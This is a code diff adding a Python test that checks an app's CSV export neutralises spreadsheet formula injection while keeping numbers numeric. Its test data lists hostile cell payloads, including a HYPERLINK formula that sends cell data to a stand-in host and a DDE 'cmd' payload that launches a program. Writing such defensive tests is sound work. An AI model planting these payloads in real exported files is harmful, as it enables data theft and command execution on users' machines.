@@ -75,3 +75,22 @@ def test_a_saved_run_reloads_into_the_views_and_the_form(tmp_path):
     assert "could not read" in show_saved(TAB, str(tmp_path / "bad.json"))["progress"]
     (tmp_path / "other.json").write_text(json.dumps({"rows": []}))
     assert "not a saved SpecLens experiment" in show_saved(TAB, str(tmp_path / "other.json"))["progress"]
+
+
+def test_the_csv_defuses_formulas_and_keeps_numbers_numbers(tmp_path):
+    """A shared saved run, reloaded, is exported again as CSV: a text cell that a spreadsheet would run as a formula
+    (it starts with =, +, -, @, a tab or a CR) starts with ' there; a number, a negative one too, stays a number."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\t=1+1", "\r=1+1"]
+    ctx = AppContext(FakeEngine([]), BaselineStore(tmp_path / "b.json"))
+    saved = load_result(list(run_experiment(ctx, TAB, form(), "s5"))[-1]["download_json"]["value"])
+    for i, row in enumerate(saved["rows"]):
+        row["draft"], row["cell"] = hostile[i % len(hostile)], f"cell {i}"
+    saved["rows"][0]["predicted_speedup"] = -0.5
+    (tmp_path / "shared.json").write_text(json.dumps(saved))
+    shown = show_saved(TAB, str(tmp_path / "shared.json"))
+    with open(shown["download_csv"]["value"], newline="") as f:
+        table = list(csv.DictReader(f))
+    assert [r["draft"] for r in table] == ["'" + hostile[i % len(hostile)] for i in range(len(table))]
+    assert [r["cell"] for r in table] == [f"cell {i}" for i in range(len(table))]
+    assert table[0]["predicted_speedup"] == "-0.5" and float(table[0]["speedup"]) > 0
